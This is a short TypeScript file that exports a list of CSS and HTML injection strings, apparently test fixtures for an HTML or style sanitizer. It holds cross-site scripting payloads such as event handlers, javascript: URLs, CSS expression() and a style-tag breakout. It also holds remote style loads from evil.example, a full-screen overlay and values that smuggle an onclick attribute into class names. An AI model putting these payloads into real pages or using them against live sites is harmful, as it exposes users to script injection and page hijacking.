/** Styles that load, cover or run something. */
export const styles: readonly string[] = [
  '<style>@import "https://evil.example/a.css";</style>',
  '<style>body { background: url(https://evil.example/a) }</style>',
  '<style>*{display:none}</style>',
  '<style onload=alert(1)></style>',
  '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=alert(1)>a</b>',
  '<div style="position:fixed;inset:0;z-index:9">a</div>',
  '<div style="background:url(javascript:alert(1))">a</div>',
  '<div style="width:expression(alert(1))">a</div>',
  '<div style="-moz-binding:url(https://evil.example/a.xml#b)">a</div>',
  '<div style="behavior:url(a.htc)">a</div>',
  '}</style><script>alert(1)</script>',
  '"; background: url(https://evil.example/a); "',
  'red;background:url(https://evil.example/a)',
  '\\22 ;}*{background:url(https://evil.example/a)}',
  'dwi-title dwi-permalink dwi-back',
  'language-x dwi-parallel" onclick="alert(1)',
]
